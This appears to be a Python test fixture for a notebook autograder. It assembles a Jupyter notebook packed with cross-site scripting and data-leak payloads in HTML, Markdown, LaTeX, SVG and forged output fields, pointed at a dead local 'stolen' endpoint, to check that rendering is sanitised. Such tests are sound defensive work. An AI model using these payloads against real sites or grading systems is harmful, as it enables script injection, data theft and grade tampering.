"""Notebooks that try to run a script, or to reach a server, from the page that shows them. What they do is harmless:

a script sets `window.owned`, a request goes to OUT, where nothing listens.
"""

from __future__ import annotations

import base64
from typing import Any

from autograder.submission import nbformat

OUT = "http://127.0.0.1:9/stolen"
OWN = "window.owned=1"
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HTML = (
    f"<script>{OWN}</script>",
    f"<img src=x onerror='{OWN}'>",
    f"<svg onload='{OWN}'><circle r=9></circle></svg>",
    f"<svg><style><img src=x onerror='{OWN}'></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={OWN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={OWN}>'></noscript>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{OWN}</script>'></object>",
    f"<details open ontoggle='{OWN}'><summary>s</summary></details>",
    f"<input autofocus onfocus='{OWN}'><video src=x onerror='{OWN}'></video><body onload='{OWN}'>",
    f"<meta http-equiv='refresh' content='0;url={OUT}'>",
    f"<base href='{OUT}/'><link rel=stylesheet href='{OUT}'>",
    f"<style>@import '{OUT}'; body{{background:url({OUT})}}</style>",
    f"<p style='background:url({OUT})'>p</p>",
    f"<img src='{OUT}'><img srcset='{OUT} 2x'><video poster='{OUT}'></video><audio src='{OUT}'></audio>",
    f"<form action='{OUT}'><button>b</button></form><script>document.forms[0].submit()</script>",
    f"<a href='javascript:{OWN}' class='click'>c</a><a href='&#14;java&#10;script:{OWN}' class='click'>c</a>",
    "<button class='btn full-credit'>x</button><div class='nbgrader_cell' id='submission_id'><input class='score'>",
    f"</div></div></body></html><script>{OWN}</script>",
    f"<template><script>{OWN}</script></template><x-y onclick='{OWN}'>z</x-y>",
)
MARKDOWN = (
    *HTML,
    f"[c](javascript:{OWN})",
    f"[c](java&#115;cript:{OWN})",
    f"[c]( <javascript:{OWN}>)",
    f"[c][r]\n\n[r]: javascript:{OWN}",
    f"[c][s]\n\n[s]:\n  <javascript:{OWN}>",
    f"<javascript:{OWN}>",
    "[c](evil.html) [c](/logout) [c](../../evil.html) [c](//127.0.0.1:9/stolen)",
    f"![p]({OUT}) ![q][t]\n\n[t]: {OUT}",
    f"![$x' onerror='{OWN}'$]({OUT})",
    f'![a](dot.svg" onerror="{OWN})',
    rf"$\text{{<img src=x onerror={OWN}>}}$ $\href{{javascript:{OWN}}}{{x}}$ $\style{{background:url({OUT})}}{{x}}$",
    rf"\begin{{align}} \class{{full-credit}}{{x}} \unicode{{<script>{OWN}</script>}} \end{{align}}",
    f"```mermaid\n</pre><script>{OWN}</script>\n```",
    f"```html\n</code></pre><script>{OWN}</script>\n```",
    f"`<script>{OWN}</script>` and ``<img src=x onerror={OWN}>``",
    f"Heading <img src=x onerror={OWN}>\n===",
    f"| a | b |\n|---|---|\n| <script>{OWN}</script> | [c](javascript:{OWN}) |",
    "*" * 3000 + "[" * 3000,
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{OWN}'><script>{OWN}</script><image href='{OUT}'/></svg>"
DATA: tuple[dict[str, Any], ...] = (
    {"application/javascript": OWN},
    {"image/svg+xml": SVG},
    {"image/png": f'x" onerror="{OWN}'},
    {"image/png": base64.b64encode(SVG.encode()).decode()},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{OWN}</script>"}},
    {"application/pdf": base64.b64encode(b"%PDF").decode()},
    {"text/vnd.mermaid": f"</pre><script>{OWN}</script>"},
    {"text/latex": rf"$\text{{</div><script>{OWN}</script>}}$"},
    {"text/latex": f"<script>{OWN}</script>"},
    {"text/plain": f"\x1b[31m</pre><script>{OWN}</script>\x1b]8;;javascript:{OWN}\x07c\x1b]8;;\x07"},
    *({"text/html": html} for html in HTML),
    *({"text/markdown": text} for text in MARKDOWN),
)
# Outputs that no notebook may have, which a forged message can make.
ODD: tuple[dict[str, Any], ...] = (
    {"output_type": "display_data", "data": {"image/jpeg": 7, "text/html": {"a": OWN}}, "metadata": {}},
    {"output_type": "display_data", "data": {"image/svg+xml": [SVG]}, "metadata": {}},
    {"output_type": "display_data", "data": 7, "metadata": 7},
    {"output_type": "stream", "name": f"stdout'><script>{OWN}</script>", "text": 7},
    {"output_type": "error", "ename": 7, "evalue": [], "traceback": ["a", 7]},
    {"output_type": OWN},
)


def notebook(*odd: Any) -> Any:
    """A graded notebook with every attack in it, as nbgrader would write it without us."""
    v4 = nbformat().v4
    said = f"\x1b[1m</pre><script>{OWN}</script>"
    outputs = [nbformat().from_dict({"output_type": "display_data", "data": data, "metadata": {}}) for data in DATA]
    outputs += [
        nbformat().from_dict({"output_type": "stream", "name": "stderr", "text": said}),
        nbformat().from_dict({"output_type": "error", "ename": said, "evalue": said, "traceback": [said]}),
        nbformat().from_dict(
            {
                "output_type": "display_data",
                "data": {"image/png": DOT},
                "metadata": {"image/png": {"width": f'1" onload="{OWN}'}, "filenames": {"image/png": OUT}},
            }
        ),
        nbformat().from_dict(
            {
                "output_type": "display_data",
                "data": {"text/html": HTML[0]},
                "metadata": {"text/html": {"isolated": True}},
            }
        ),
    ]
    answer = {
        "grade_id": "tiny-why-explain",
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 2.0,
        "score": 0,
    }
    answer |= {"schema_version": 3, "task": False, "cell_type": "markdown"}
    cells = [
        v4.new_code_cell(f"# </pre><script>{OWN}</script>\n%%html\n<script>{OWN}</script>"),
        v4.new_raw_cell(HTML[0], metadata={"raw_mimetype": "text/html"}),
        *(v4.new_markdown_cell(text) for text in MARKDOWN),
        v4.new_markdown_cell("![p](attachment:a.png)", attachments={"a.png": {f'x" onerror="{OWN}': OWN}}),
        v4.new_markdown_cell(
            "\n\n".join(MARKDOWN), metadata={"nbgrader": answer, "tags": [f'x"><script>{OWN}</script>']}
        ),
    ]
    metadata = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": OWN}}}}
    made = v4.new_notebook(cells=cells, metadata=metadata)
    made.cells[0].outputs = [*outputs, *map(nbformat().from_dict, odd)]  # the constructors would refuse these
    return made
